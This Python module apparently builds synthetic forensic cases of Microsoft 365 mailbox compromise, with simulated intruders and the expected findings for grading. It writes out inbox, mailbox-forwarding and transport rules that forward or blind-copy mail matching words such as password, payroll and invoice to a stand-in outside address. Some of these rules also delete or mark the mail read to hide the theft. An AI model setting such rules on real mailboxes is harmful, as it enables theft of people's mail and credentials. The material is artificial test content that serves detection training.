"""Forwarding with conditions: inbox rules, mailbox forwarding, transport rules; conditions are weighed against the mail.

Learn: New-InboxRule, Set-InboxRule, Set-Mailbox, New-TransportRule (exchange-ps). All conditions of a rule must hold,
any word of one condition is enough, any exception is enough to leave a letter out; words ignore case; inbox rules see
only what is delivered, transport rules what is sent, too. A rule holds from its record on, until it is removed,
disabled or changed. Letters near these moments are left out by three hours.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from .common import DAY, MINUTE, Box, Case, Copy
from .office import Office

if TYPE_CHECKING:
    import random
    from collections.abc import Callable
    from datetime import datetime
    from pathlib import Path

    from records import Hand

EVIL = "smtp:archive@elsewhere.example"
BOB, EVA = "bob@partner.example", "eva@supplier.example"


@dataclass
class Rule:
    """One mailbox's rule: what it says, and which letters that takes."""

    name: str
    says: dict[str, str]
    match: Callable[[Copy], bool | None]
    steps: tuple[str, ...] = ("New", "Remove")
    then: dict[str, str] = field(default_factory=dict)
    rematch: Callable[[Copy], bool | None] | None = None
    logged: bool = True


def words(*wanted: str, body: bool = True, subject: bool = True) -> Callable[[Copy], bool]:
    """Whether any of the words stands there."""

    def hit(copy: Copy) -> bool:
        text = (copy.letter.subject if subject else "") + "\n" + (copy.letter.body if body else "")
        return any(word in text.lower() for word in wanted)

    return hit


def sender(*wanted: str) -> Callable[[Copy], bool]:
    """Whether it comes from one of them."""
    return lambda copy: copy.letter.sender in wanted


def attached(copy: Copy) -> bool:
    """Whether anything hangs on it."""
    return copy.letter.attachment is not None


RULES = [
    Rule("from", {"From": BOB, "ForwardTo": EVIL, "MarkAsRead": "True"}, sender(BOB)),
    Rule(
        "subject",
        {"SubjectContainsWords": "invoice;payment", "RedirectTo": EVIL},
        words("invoice", "payment", body=False),
    ),
    Rule(
        "either",
        {"SubjectOrBodyContainsWords": "PASSWORD;payroll", "ForwardAsAttachmentTo": EVIL, "DeleteMessage": "True"},
        words("password", "payroll"),
    ),
    Rule("body", {"BodyContainsWords": "contract", "ForwardTo": EVIL}, words("contract", subject=False)),
    Rule("attached", {"HasAttachment": "True", "ForwardTo": EVIL}, attached),
    Rule(
        "except",
        {"SubjectOrBodyContainsWords": "contract;tender", "ExceptIfFrom": EVA, "ForwardTo": EVIL},
        lambda c: words("contract", "tender")(c) and not sender(EVA)(c),
    ),
    Rule(
        "unless",
        {"ExceptIfSubjectContainsWords": "budget;meeting", "ForwardTo": EVIL},
        lambda c: not words("budget", "meeting", body=False)(c),
    ),
    Rule(
        "both",
        {"From": f"{BOB};{EVA}", "SubjectOrBodyContainsWords": "invoice;budget;travel", "RedirectTo": EVIL},
        lambda c: sender(BOB, EVA)(c) and words("invoice", "budget", "travel")(c),
    ),
    Rule(
        "domain",
        {"FromAddressContainsWords": "partner.example;port.example.jp", "ForwardTo": EVIL},
        lambda c: c.letter.sender.endswith(("@partner.example", "@port.example.jp")),
    ),
    Rule("all", {"ForwardTo": EVIL, "StopProcessingRules": "True"}, lambda _: True),
    Rule("paused", {"ForwardTo": EVIL}, lambda _: True, ("New", "Disable", "Enable", "Remove")),
    Rule(
        "changed",
        {"SubjectOrBodyContainsWords": "invoice", "ForwardTo": EVIL},
        words("invoice"),
        ("New", "Set", "Remove"),
        {"SubjectOrBodyContainsWords": "shipment;travel"},
        words("shipment", "travel"),
    ),
    Rule("untold", {"MessageTypeMatches": "Encrypted", "ForwardTo": EVIL}, lambda _: None),
    Rule(
        "hidden",
        {"SubjectOrBodyContainsWords": "invoice", "MoveToFolder": "Archive", "MarkAsRead": "True"},
        lambda _: False,
    ),
    Rule("kept", {"From": BOB, "ForwardTo": EVIL}, sender(BOB), ("New",)),
    Rule("unlogged", {"From": EVA, "ForwardTo": EVIL}, sender(EVA), logged=False),
]


def build(rng: random.Random, root: Path) -> list[Case]:
    """Build both cases."""
    return [_inbox(rng, root), _transport(rng, root)]


def _inbox(rng: random.Random, root: Path) -> Case:
    office = Office(rng, root / "inbox")
    boxes = {rule.name: office.box(rule.name, logged=rule.logged) for rule in RULES}
    sets, mine, made = office.box("forwarded"), office.box("mine"), office.box("made")
    times = {
        name: [office.at(day + rng.randint(0, 3)) for day in (18, 30, 42, 60)] for name in [*boxes, "forwarded", "made"]
    }
    for name, moments in times.items():
        {"forwarded": sets, "made": made, **boxes}[name].borders = moments
    for box in office.boxes:
        office.fill(box, 55)
    office.share()
    hands = [_play(office, boxes[rule.name], rule, times[rule.name]) for rule in RULES]
    hands.append(_forwarding(office, sets, times["forwarded"]))
    hands.append(_by_admin(office, made, times["made"]))
    # The owner's own rule to an address of theirs, made at home: never the intruder's.
    own = office.owner(mine)
    record = office.cmdlet(
        own, office.at(9), "New-InboxRule", Name="To my phone", From=BOB, ForwardTo="smtp:me@home.example"
    )
    office.innocent.add(record["Id"])
    for box in office.boxes:
        office.live(box, mail_items=box.logged)
    return office.close("m365_rules inbox", indicators=[hand.ip for hand in hands])


def _play(office: Office, box: Box, rule: Rule, moments: list[datetime]) -> Hand:
    """Make, change and remove a rule from one foreign browser; each step is a visit."""
    hand = office.intruder(box.address)
    times = {"New": moments[0], "Disable": moments[1], "Set": moments[1], "Enable": moments[2], "Remove": moments[3]}
    spans: list[tuple[datetime, datetime, Callable[[Copy], bool | None]]] = []
    open_at, match = times["New"], rule.match
    for step in rule.steps:
        at = times[step]
        office.sign_in(box, hand, at - 5 * MINUTE)
        more = rule.says if step == "New" else rule.then if step == "Set" else {}
        who = {"Name": "."} if step == "New" else {"Identity": "."}
        office.cmdlet(hand, at, f"{step}-InboxRule", **who, **more)
        box.traces.append(at)
        if step in ("Set", "Disable", "Remove"):
            spans.append((open_at, at, match))
            match = rule.rematch or match
        if step in ("Set", "Enable"):
            open_at = at
    if rule.steps[-1] != "Remove":
        spans.append((open_at, office.end + 60 * DAY, match))
        box.loose.append(
            (
                box.traces[0],
                office.end + 60 * DAY,
                "not_accessed|out_of_reach",
                "the rule stood and does not take it (O1)",
            )
        )
    for start, end, holds in spans:
        box.rules.append((start, end, holds, f"rule {rule.says}"))
        for copy in box.copies:
            copy.opened |= not copy.sent and start <= copy.arrived < end and holds(copy) is True
    return hand


def _forwarding(office: Office, box: Box, moments: list[datetime]) -> Hand:
    hand = office.intruder(box.address)
    for at, value in ((moments[0], EVIL), (moments[3], "")):
        office.sign_in(box, hand, at - 5 * MINUTE)
        office.cmdlet(
            hand,
            at,
            "Set-Mailbox",
            Identity=office.called(box),
            DeliverToMailboxAndForward="True" if value else "False",
            ForwardingSmtpAddress=value,
        )
        box.traces.append(at)
    box.rules.append((moments[0], moments[3], lambda _: True, "ForwardingSmtpAddress"))
    return hand


def _by_admin(office: Office, box: Box, moments: list[datetime]) -> Hand:
    """Make a rule in another's mailbox with an administrator's account: -Mailbox tells whose."""
    hand = office.intruder("admin@" + office.domain)
    office.sign_in(None, hand, moments[0] - 5 * MINUTE)
    office.cmdlet(
        hand,
        moments[0],
        "New-InboxRule",
        Name="..",
        Mailbox=office.called(box),
        SubjectContainsWords="tender",
        ForwardTo=EVIL,
    )
    office.cmdlet(hand, moments[3], "Remove-InboxRule", Identity="..", Mailbox=office.called(box))
    box.rules.append((moments[0], moments[3], words("tender", body=False), "an administrator's rule in this mailbox"))
    box.loose.append(
        (office.start, moments[3], "out_of_reach|not_accessed", "the rule does not take it; nobody was in the mailbox")
    )
    for copy in box.copies:
        taken = moments[0] <= copy.arrived < moments[3] and not copy.sent and "tender" in copy.letter.subject.lower()
        copy.opened = taken
    return hand


def _transport(rng: random.Random, root: Path) -> Case:
    """Two rules for the whole organisation, by an administrator's account: letters sent count, too."""
    office = Office(rng, root / "transport")
    boxes = [office.box(name) for name in ("anna", "boss", "carl", "dora")]
    first, second = (office.at(20), office.at(55)), (office.at(33), office.at(70))
    for box in boxes:
        box.borders = [*first, *second]
        office.fill(box, 110)
    office.share()
    hand = office.intruder("admin@" + office.domain)
    for at in (*first, *second):
        office.sign_in(None, hand, at - 5 * MINUTE)
    blind = "archive@elsewhere.example"
    office.cmdlet(
        hand,
        first[0],
        "New-TransportRule",
        Name="Footer",
        Mode="Enforce",
        BlindCopyTo=blind,
        SubjectOrBodyContainsWords="password;payment;invoice",
        ExceptIfFrom=BOB,
        SenderAddressLocation="Header",
    )
    office.cmdlet(hand, first[1], "Disable-TransportRule", Identity="Footer")
    office.cmdlet(
        hand,
        second[0],
        "New-TransportRule",
        Name="Journal",
        Mode="Enforce",
        BlindCopyTo=blind,
        SentTo=boxes[1].address,
        FromScope="NotInOrganization",
    )
    office.cmdlet(hand, second[1], "Remove-TransportRule", Identity="Journal")
    hit = words("password", "payment", "invoice")
    for copy in office.copies():
        if first[0] <= copy.arrived < first[1] and hit(copy) and copy.letter.sender != BOB:
            copy.verdict, copy.why, copy.opened = "copied", "transport rule with words", True
        outside = not copy.letter.sender.endswith("@" + office.domain)
        if second[0] <= copy.arrived < second[1] and outside and boxes[1].address in copy.letter.to:
            copy.verdict, copy.why, copy.opened = "copied", "transport rule for letters to boss", True
    for box in boxes:
        office.live(box)
    return office.close("m365_rules transport", indicators=[hand.ip])
